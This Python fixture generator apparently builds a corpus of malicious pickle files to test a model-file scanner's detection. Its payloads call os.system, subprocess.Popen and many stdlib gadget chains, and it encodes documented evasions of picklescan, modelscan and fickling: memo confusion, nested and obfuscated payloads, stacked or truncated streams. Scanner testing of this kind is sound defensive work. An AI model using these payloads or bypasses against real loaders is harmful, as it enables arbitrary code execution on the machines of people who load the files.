"""Hostile raw pickles (reference §4 items 1-18, §6.3), each assembled opcode by opcode.

Every file's expected global is the normalised import that `stemma scan` must name in a finding with the
file's verdict: Python-2 names through _compat_pickle for protocol < 3, then the aliases of §6.3
(posix/nt -> os, cPickle/_pickle -> pickle, __builtin__ -> builtins, _posixsubprocess -> subprocess, ...).
"""

import marshal
import struct
import zlib

from pickle_asm import (CMD, APPEND, BUILD, DUP, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARK, MEMOIZE, NEWOBJ,
                        NEWOBJ_EX, OBJ, POP, REDUCE, SETITEM, STACK_GLOBAL, STOP, TUPLE1, binbytes, binget, binint1,
                        binput, binunicode, bytearray8, call, ext1, global_, import_, inst, long_binget, long_binput,
                        short_binbytes, short_binunicode, string0, text, tuple_of, wrap)

D = "dangerous"


def os_system(protocol, module="os"):
    """module.system(CMD) with REDUCE, written as a pickler of that protocol would."""
    return wrap(call(module, "system", [text(CMD, protocol)], protocol), protocol)


def build(c):
    ops_reduce = ("REDUCE",)

    # --- os.system, GLOBAL/STACK_GLOBAL + REDUCE, every protocol (rows 1-6) -----------------------------
    for p in (0, 1, 2, 3):
        blob = c.pickle(f"os_system_p{p}", os_system(p), ops=ops_reduce, imports=["os system"])
        c.add(f"pickle/os_system_reduce_p{p}.pkl", blob, D, f"os.system via GLOBAL+REDUCE, protocol {p}",
              "os.system")
    for p in (4, 5):
        blob = c.pickle(f"os_system_p{p}", os_system(p), ops=("STACK_GLOBAL", "REDUCE", "FRAME"))
        c.add(f"pickle/os_system_reduce_p{p}.pkl", blob, D, f"os.system via STACK_GLOBAL+REDUCE, protocol {p}",
              "os.system")
    # GLOBAL is still legal at protocol 4 (pickle writes it for some objects).
    blob = c.pickle("os_system_global_p4", wrap(global_("os", "system") + text(CMD, 4) + b"\x85" + REDUCE, 4),
                    ops=ops_reduce, imports=["os system"])
    c.add("pickle/os_system_global_p4.pkl", blob, D, "os.system via GLOBAL (not STACK_GLOBAL) at protocol 4",
          "os.system")

    # --- module aliases (§6.3 normalisation step 2) --------------------------------------------------------
    blob = c.pickle("posix_system_p2", os_system(2, "posix"), ops=ops_reduce, imports=["posix system"])
    c.add("pickle/posix_system_p2.pkl", blob, D, "posix alias of os (§6.3 alias)", "os.system")
    blob = c.pickle("nt_system_p4", os_system(4, "nt"), ops=ops_reduce)
    c.add("pickle/nt_system_p4.pkl", blob, D, "nt alias of os (§6.3 alias)", "os.system")

    # --- INST, OBJ, NEWOBJ (item 2, §6.3 calls) --------------------------------------------------------------
    blob = c.pickle("inst_p0", MARK + string0(CMD) + inst("os", "system") + STOP, ops=("INST",),
                    imports=["os system"])
    c.add("pickle/inst_os_system_p0.pkl", blob, D, "INST opcode (item 2, picklescan#13)", "os.system")
    blob = c.pickle("obj_p1", MARK + global_("os", "system") + binunicode(CMD) + OBJ + STOP, ops=("OBJ",),
                    imports=["os system"])
    c.add("pickle/obj_os_system_p1.pkl", blob, D, "OBJ opcode calls its first item", "os.system")
    argv = EMPTY_LIST + MARK + binunicode("sh") + binunicode("-c") + binunicode(CMD) + b"e"
    blob = c.pickle("newobj_popen_p2", wrap(global_("subprocess", "Popen") + argv + TUPLE1 + NEWOBJ, 2),
                    ops=("NEWOBJ",), imports=["subprocess Popen"])
    c.add("pickle/newobj_subprocess_popen_p2.pkl", blob, D, "NEWOBJ on subprocess.Popen (cls.__new__ call)",
          "subprocess.Popen")

    # --- BUILD on an imported function (item 4, modelscan#85) ------------------------------------------------
    state = EMPTY_DICT + binunicode("a") + binunicode("os") + SETITEM
    body = global_("numpy", "prod") + state + BUILD + POP + global_("numpy", "prod.a") + POP + EMPTY_DICT
    blob = c.pickle("build_on_function_p2", wrap(body, 2), ops=("BUILD",), imports=["numpy prod"])
    c.add("pickle/build_on_imported_function_p2.pkl", blob, D,
          "BUILD (setattr) on an imported function object, then a dotted GLOBAL (item 4, modelscan#85)",
          "numpy.prod")

    # --- memo confusion (item 1) ---------------------------------------------------------------------------
    # memo0='os', memo1='system'; BINGET 0 + MEMOIZE copies 'os' to memo2 (picklescan models memo2 = 0).
    body = (short_binunicode("os") + MEMOIZE + POP + short_binunicode("system") + MEMOIZE + POP
            + binget(0) + MEMOIZE + POP + binget(2) + binget(1) + STACK_GLOBAL + text(CMD, 4) + b"\x85" + REDUCE)
    blob = c.pickle("memo_copy", wrap(body, 4), ops=("MEMOIZE", "BINGET", "STACK_GLOBAL", "REDUCE"))
    c.add("pickle/memo_confusion_p4.pkl", blob, D,
          "memo confusion: BINGET+MEMOIZE copies a memo entry (item 1, picklescan#14/#22, modelscan#338)",
          "os.system")
    # PUT after POP: the memo gets the stack top ('os'), not the previous opcode's argument.
    body = (short_binunicode("os") + short_binunicode("decoy") + POP + binput(7) + POP
            + short_binunicode("system") + binput(8) + POP + binget(7) + binget(8) + STACK_GLOBAL
            + text(CMD, 4) + b"\x85" + REDUCE)
    blob = c.pickle("memo_put_after_pop", wrap(body, 4), ops=("BINPUT", "BINGET", "STACK_GLOBAL"))
    c.add("pickle/memo_put_after_pop_p4.pkl", blob, D, "memo confusion: BINPUT after POP stores the stack top",
          "os.system")
    # PUT with an explicit key mixed with MEMOIZE (key = len(memo), not a counter of MEMOIZE opcodes).
    body = (short_binunicode("nt") + long_binput(5) + POP + short_binunicode("system") + MEMOIZE + POP
            + long_binget(5) + long_binget(1) + STACK_GLOBAL + text(CMD, 4) + b"\x85" + REDUCE)
    blob = c.pickle("memo_put_memoize_mix", wrap(body, 4), ops=("LONG_BINPUT", "MEMOIZE", "LONG_BINGET"))
    c.add("pickle/memo_put_memoize_mix_p4.pkl", blob, D,
          "memo confusion: LONG_BINPUT 5 then MEMOIZE (key len(memo)=1), STACK_GLOBAL from both", "os.system")

    # --- STACK_GLOBAL with non-str operands (item 3) ----------------------------------------------------------
    body = short_binbytes(b"os") + short_binunicode("system") + STACK_GLOBAL + text(CMD, 4) + b"\x85" + REDUCE
    blob = c.pickle("stack_global_bytes", wrap(body, 4), ops=("STACK_GLOBAL", "SHORT_BINBYTES"))
    c.add("pickle/stack_global_bytes_operand_p4.pkl", blob, D,
          "STACK_GLOBAL with a bytes module operand: unresolvable import (item 3, modelscan#338 5b)")
    # the same through the memo: modelscan's memo model then holds bytes and crashes (TypeError, no issue)
    body = (short_binbytes(b"os") + MEMOIZE + POP + short_binunicode("system") + MEMOIZE + POP + binget(0)
            + binget(1) + STACK_GLOBAL + text(CMD, 4) + b"\x85" + REDUCE)
    blob = c.pickle("stack_global_bytes_memo", wrap(body, 4), ops=("STACK_GLOBAL", "SHORT_BINBYTES", "BINGET"))
    c.add("pickle/stack_global_bytes_via_memo_p4.pkl", blob, D,
          "STACK_GLOBAL with a bytes operand fetched from the memo (item 3, modelscan#338 5b)")
    body = binint1(7) + short_binunicode("system") + STACK_GLOBAL + text(CMD, 4) + b"\x85" + REDUCE
    blob = c.pickle("stack_global_int", wrap(body, 4), ops=("STACK_GLOBAL", "BININT1"))
    c.add("pickle/stack_global_int_operand_p4.pkl", blob, D,
          "STACK_GLOBAL with an int module operand: unresolvable import (item 3)")
    body = bytearray8(b"os") + short_binunicode("system") + STACK_GLOBAL + text(CMD, 5) + b"\x85" + REDUCE
    blob = c.pickle("stack_global_bytearray", wrap(body, 5), ops=("STACK_GLOBAL", "BYTEARRAY8"))
    c.add("pickle/stack_global_bytearray_operand_p5.pkl", blob, D,
          "STACK_GLOBAL with an unhashable bytearray operand (item 3, modelscan#338 5c)")

    # --- Python-2 names, builtins (item 14) --------------------------------------------------------------------
    for name, arg in (("eval", f"__import__('os').system('{CMD}')"),
                      ("exec", f"import os; os.system('{CMD}')")):
        blob = c.pickle(f"builtin_{name}", wrap(call("__builtin__", name, [text(arg, 2)], 2), 2), ops=ops_reduce,
                        imports=[f"__builtin__ {name}"])
        c.add(f"pickle/builtin_{name}_p2.pkl", blob, D, f"__builtin__.{name} (Python-2 name, item 14)",
              f"builtins.{name}")
    # getattr(__import__('os'), 'system')(CMD)
    imp = call("__builtin__", "__import__", [text("os", 2)], 2)
    getattr_call = global_("__builtin__", "getattr") + imp + text("system", 2) + b"\x86" + REDUCE
    blob = c.pickle("builtin_getattr", wrap(getattr_call + text(CMD, 2) + b"\x85" + REDUCE, 2),
                    ops=ops_reduce, imports=["__builtin__ getattr", "__builtin__ __import__"])
    c.add("pickle/builtin_getattr_p2.pkl", blob, D, "__builtin__.getattr(__import__('os'), 'system')",
          "builtins.getattr")
    blob = c.pickle("commands", wrap(call("commands", "getoutput", [text(CMD, 2)], 2), 2), ops=ops_reduce,
                    imports=["commands getoutput"])
    c.add("pickle/commands_getoutput_p2.pkl", blob, D,
          "commands -> subprocess through _compat_pickle.IMPORT_MAPPING (row 16, missed by modelscan)",
          "subprocess.getoutput")

    # --- nested payloads (items 17, 18) ----------------------------------------------------------------------
    inner = c.pickle("inner_p2", os_system(2), ops=ops_reduce)
    # protocol 2 has no bytes opcode: bytes travel as _codecs.encode(latin-1 str, 'latin1').
    as_bytes = call("_codecs", "encode", [binunicode(inner.decode("latin-1")), binunicode("latin1")], 2)
    blob = c.pickle("cpickle_loads", wrap(global_("cPickle", "loads") + as_bytes + TUPLE1 + REDUCE, 2),
                    ops=ops_reduce, imports=["cPickle loads", "_codecs encode"])
    c.add("pickle/cpickle_loads_nested_p2.pkl", blob, D,
          "cPickle.loads of an embedded malicious pickle (row 17; cPickle -> pickle)", "pickle.loads")
    inner4 = c.pickle("inner_p4", os_system(4), ops=ops_reduce)
    blob = c.pickle("pickle_loads", wrap(call("pickle", "loads", [binbytes(inner4)], 4), 4), ops=ops_reduce)
    c.add("pickle/pickle_loads_nested_p4.pkl", blob, D, "pickle.loads of an embedded pickle (row 19)",
          "pickle.loads")
    blob = c.pickle("load_from_bytes",
                    wrap(call("torch.storage", "_load_from_bytes", [binbytes(inner)], 3), 3), ops=ops_reduce,
                    imports=["torch.storage _load_from_bytes"])
    c.add("pickle/torch_load_from_bytes_nested_p3.pkl", blob, D,
          "torch.storage._load_from_bytes of an embedded pickle (row 20)", "torch.storage._load_from_bytes")
    packed = zlib.compress(inner4, 9)
    decompressed = call("zlib", "decompress", [binbytes(packed)], 4)
    blob = c.pickle("zlib_pickle", wrap(import_("pickle", "loads", 4) + decompressed + TUPLE1 + REDUCE, 4),
                    ops=ops_reduce)
    c.add("pickle/zlib_decompress_pickle_loads_p4.pkl", blob, D,
          "pickle.loads(zlib.decompress(...)): obfuscated nested payload (item 12)", "pickle.loads")
    code = marshal.dumps(compile(f"import os; os.system('{CMD}')", "<stemma-test>", "exec"))
    code_obj = call("marshal", "loads", [binbytes(code)], 4)
    fn = import_("types", "FunctionType", 4) + code_obj + EMPTY_DICT + b"\x86" + REDUCE
    blob = c.pickle("marshal_loads", wrap(fn + EMPTY_TUPLE + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/marshal_loads_function_p4.pkl", blob, D,
          "types.FunctionType(marshal.loads(code), {})(): marshalled bytecode (§6.4 additions)", "marshal.loads")

    # --- dotted names at protocol >= 4 (item 5) ------------------------------------------------------------------
    blob = c.pickle("random_os", os_system_dotted(), ops=("STACK_GLOBAL", "REDUCE"))
    c.add("pickle/dotted_random_os_system_p4.pkl", blob, D,
          "STACK_GLOBAL random / _os.system: attribute walk to os (item 5, row 18, missed by all three)",
          "random._os.system")

    # --- stdlib gadgets missing from denylists (items 8-13, 21) -------------------------------------------------
    gadgets(c)
    more(c)


def more(c):
    """§4 items 4, 5, 18 variants and the §6.4 'everything else is suspicious' rule."""
    body = short_binunicode("numpy") + short_binunicode("__builtins__") + STACK_GLOBAL
    c.add("pickle/numpy_dunder_builtins_p4.pkl", c.pickle("numpy_builtins", wrap(body, 4), ops=("STACK_GLOBAL",)),
          D, "numpy.__builtins__ reached through an allowlisted module (item 4, modelscan#330; dunder component)",
          "numpy.__builtins__")
    body = short_binunicode("pathlib") + short_binunicode("os.system") + STACK_GLOBAL + text(CMD, 4) + b"\x85"
    c.add("pickle/dotted_pathlib_os_system_p4.pkl", c.pickle("pathlib_os", wrap(body + REDUCE, 4)), D,
          "STACK_GLOBAL pathlib / os.system (item 5, fickling#287, GHSA-5j3x-jp52-966f)", "pathlib.os.system")
    argv = EMPTY_LIST + MARK + text("sh", 4) + text("-c", 4) + text(CMD, 4) + b"e"
    body = import_("subprocess", "Popen", 4) + argv + TUPLE1 + EMPTY_DICT + NEWOBJ_EX
    c.add("pickle/newobj_ex_subprocess_popen_p4.pkl", c.pickle("newobj_ex", wrap(body, 4), ops=("NEWOBJ_EX",)), D,
          "NEWOBJ_EX on subprocess.Popen (§6.3 calls)", "subprocess.Popen")
    inner = os_system(4)
    body = EMPTY_DICT + text("config", 4) + text("v1", 4) + SETITEM + text("blob", 4) + binbytes(inner) + SETITEM
    c.add("pickle/embedded_pickle_bytes_p4.pkl", c.pickle("embedded", wrap(body, 4)), D,
          "a malicious pickle as a plain bytes value, loaded later by the application (item 18, §6.3 nested "
          "payloads by content)", "os.system")
    body = (global_("sklearn.linear_model._logistic", "LogisticRegression") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
            + binunicode("C") + b"G" + struct.pack(">d", 1.0) + SETITEM + BUILD)
    c.add("pickle/unknown_import_sklearn_p2.pkl",
          c.pickle("sklearn", wrap(body, 2), ops=("NEWOBJ", "BUILD"),
                   imports=["sklearn.linear_model._logistic LogisticRegression"]), "suspicious",
          "an import on no allowlist and no denylist (sklearn model): suspicious, not safe (§6.4)",
          "sklearn.linear_model._logistic.LogisticRegression")


def os_system_dotted():
    body = short_binunicode("random") + short_binunicode("_os.system") + STACK_GLOBAL + text(CMD, 4) + b"\x85"
    return wrap(body + REDUCE, 4)


def gadgets(c):
    t4 = lambda s: text(s, 4)  # noqa: E731
    ops_reduce = ("REDUCE",)

    # importlib.import_module('os') -> vars() -> operator.getitem(.., 'system') -> call
    mod = call("importlib", "import_module", [t4("os")], 4)
    namespace = import_("builtins", "vars", 4) + mod + TUPLE1 + REDUCE
    system = import_("operator", "getitem", 4) + namespace + t4("system") + b"\x86" + REDUCE
    blob = c.pickle("importlib_chain", wrap(system + t4(CMD) + b"\x85" + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/importlib_vars_getitem_p4.pkl", blob, D,
          "importlib.import_module + vars + operator.getitem chain (item 10, row 12)", "importlib.import_module")

    caps = (EMPTY_DICT + t4("text/plain") + EMPTY_LIST + EMPTY_DICT + t4("view") + t4("true") + SETITEM
            + t4("test") + t4(CMD) + SETITEM + APPEND + SETITEM)
    kwargs_free = tuple_of([caps, t4("text/plain"), t4("view"), t4("/dev/null")], 4)
    blob = c.pickle("mailcap", wrap(import_("mailcap", "findmatch", 4) + kwargs_free + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/mailcap_findmatch_p4.pkl", blob, D,
          "mailcap.findmatch runs the 'test' field with os.system (item 11, row 14)", "mailcap.findmatch")

    resolved = call("pkgutil", "resolve_name", [t4("os:system")], 4)
    blob = c.pickle("pkgutil", wrap(resolved + t4(CMD) + b"\x85" + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/pkgutil_resolve_name_p4.pkl", blob, D,
          "pkgutil.resolve_name('os:system') universal bypass (item 9, GHSA-vvpj-pp9x-gcfr)", "pkgutil.resolve_name")

    partial = global_("functools", "partial") + global_("posix", "system") + text(CMD, 2) + b"\x86" + REDUCE
    blob = c.pickle("partial", wrap(partial + EMPTY_TUPLE + REDUCE, 2), ops=ops_reduce,
                    imports=["functools partial", "posix system"])
    c.add("pickle/functools_partial_posix_system_p2.pkl", blob, D,
          "functools.partial(posix.system, cmd)() (item 13, row 15)", "os.system")

    argv = EMPTY_LIST + MARK + t4("sh") + t4("-c") + t4(CMD) + b"e"
    transport = import_("asyncio.unix_events", "_UnixSubprocessTransport", 4)
    args = tuple_of([b"N", argv, b"\x88", b"N", b"N", b"N", binint1(0)], 4)
    blob = c.pickle("asyncio", wrap(transport + args + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/asyncio_unix_subprocess_transport_p4.pkl", blob, D,
          "asyncio.unix_events._UnixSubprocessTransport: submodule of a blocked module (item 21, CVE-2025-10157)",
          "asyncio.unix_events._UnixSubprocessTransport")

    pip_args = EMPTY_LIST + MARK + t4("install") + t4("stemma-test-nonexistent") + b"e"
    blob = c.pickle("pip_main", wrap(import_("pip", "main", 4) + pip_args + TUPLE1 + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/pip_main_p4.pkl", blob, D, "pip.main(['install', ...]) (item 8, CVE-2025-1716)", "pip.main")

    blob = c.pickle("runpy", wrap(call("runpy", "_run_code", [t4(f"import os; os.system('{CMD}')"), EMPTY_DICT],
                                       4), 4), ops=ops_reduce)
    c.add("pickle/runpy_run_code_p4.pkl", blob, D, "runpy._run_code(source, {})", "runpy._run_code")

    spawn_argv = EMPTY_LIST + MARK + t4("sh") + t4("-c") + t4(CMD) + b"e"
    spawn = import_("multiprocessing.util", "spawnv_passfds", 4) + t4("/bin/sh") + spawn_argv + EMPTY_TUPLE
    blob = c.pickle("spawnv_passfds", wrap(spawn + b"\x87" + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/multiprocessing_spawnv_passfds_p4.pkl", blob, D,
          "multiprocessing.util.spawnv_passfds seen in real Hugging Face malware (item 12)",
          "multiprocessing.util.spawnv_passfds")

    fork_args = [EMPTY_LIST + MARK + short_binbytes(b"/bin/sh") + short_binbytes(b"-c") + short_binbytes(CMD.encode())
                 + b"e"] + [b"N"] * 4
    blob = c.pickle("fork_exec", wrap(import_("_posixsubprocess", "fork_exec", 4) + tuple_of(fork_args, 4) + REDUCE,
                                      4), ops=ops_reduce)
    c.add("pickle/posixsubprocess_fork_exec_p4.pkl", blob, D,
          "_posixsubprocess.fork_exec (private stdlib module, §6.3 alias -> subprocess)", "subprocess.fork_exec")

    # print.__class__.__base__.__subclasses__() through builtins.getattr only (item 12, saferpickle#18)
    ga = import_("builtins", "getattr", 4)
    cls = ga + import_("builtins", "print", 4) + t4("__class__") + b"\x86" + REDUCE
    base = ga + cls + t4("__base__") + b"\x86" + REDUCE
    subclasses = ga + base + t4("__subclasses__") + b"\x86" + REDUCE
    blob = c.pickle("introspection", wrap(subclasses + EMPTY_TUPLE + REDUCE, 4), ops=ops_reduce)
    c.add("pickle/builtins_getattr_introspection_p4.pkl", blob, D,
          "builtins.getattr chain print.__class__.__base__.__subclasses__() (item 12)", "builtins.getattr")

    # --- broken, truncated and stacked streams (items 6, 7) ------------------------------------------------------
    p2 = os_system(2)
    truncated = p2[:-1]  # REDUCE done, STOP missing
    c.add("pickle/truncated_after_reduce_p2.pkl", c.pickle("truncated", truncated, broken=True, ops=ops_reduce),
          D, "payload runs, then the stream ends without STOP (item 6): dangerous, also malformed", "os.system")
    nullifai = p2[:-1] + b"\xff\xfe garbage that is not pickle" + b"\x00" * 8
    c.add("pickle/broken_after_payload_p2.pkl", c.pickle("nullifai", nullifai, broken=True, ops=ops_reduce), D,
          "nullifAI: payload then an invalid opcode (item 6, modelscan drops the finding)", "os.system")
    first = wrap(EMPTY_DICT + text("a", 2) + binint1(1) + SETITEM, 2)
    second = wrap(binint1(42), 2)
    stacked = c.pickle("stacked", first + second + p2, stacked=3, ops=ops_reduce, imports=["os system"])
    c.add("pickle/stacked_payload_third_p2.pkl", stacked, D, "three stacked pickles, payload in the third (item 7)",
          "os.system", pickle_index=2)

    # --- names named oddly (item 19, CVE-2025-10155) --------------------------------------------------------------
    for ext in ("bin", "pt", "txt"):
        c.add(f"pickle/raw_pickle_named.{ext}", c.pickle(f"raw_{ext}", os_system(2)), D,
              f"a raw malicious pickle named .{ext}: scanned by content, not by extension (item 19, row 27)",
              "os.system")
    c.add("pickle/no_extension_p0", c.pickle("noext_p0", os_system(0)), D,
          "a protocol-0 pickle with no extension and no magic (§6.1 protocol-0 sniffing)", "os.system")

    # --- other §6.3 rules -------------------------------------------------------------------------------------------
    c.add("pickle/ext1_registry_p2.pkl", c.pickle("ext1", wrap(ext1(1) + EMPTY_TUPLE + REDUCE, 2), ops=("EXT1",)),
          "suspicious", "EXT1: an extension-registry (copyreg) import (§6.3)")
    locals_name = short_binunicode("collections") + short_binunicode("make.<locals>.Thing") + STACK_GLOBAL
    c.add("pickle/locals_in_name_p4.pkl", c.pickle("locals", wrap(locals_name, 4), ops=("STACK_GLOBAL",)),
          "malformed", "'<locals>' in an imported name (§6.3 normalisation rule 4)")
    # A copy with DUP: the callee reaches REDUCE through DUP + memo, not straight from the import.
    dup = global_("os", "system") + DUP + POP + binput(0) + POP + binget(0) + text(CMD, 2) + b"\x85" + REDUCE
    c.add("pickle/dup_memo_indirect_callee_p2.pkl", c.pickle("dup", wrap(dup, 2), ops=("DUP", "BINPUT")), D,
          "the imported callee reaches REDUCE through DUP and the memo", "os.system")
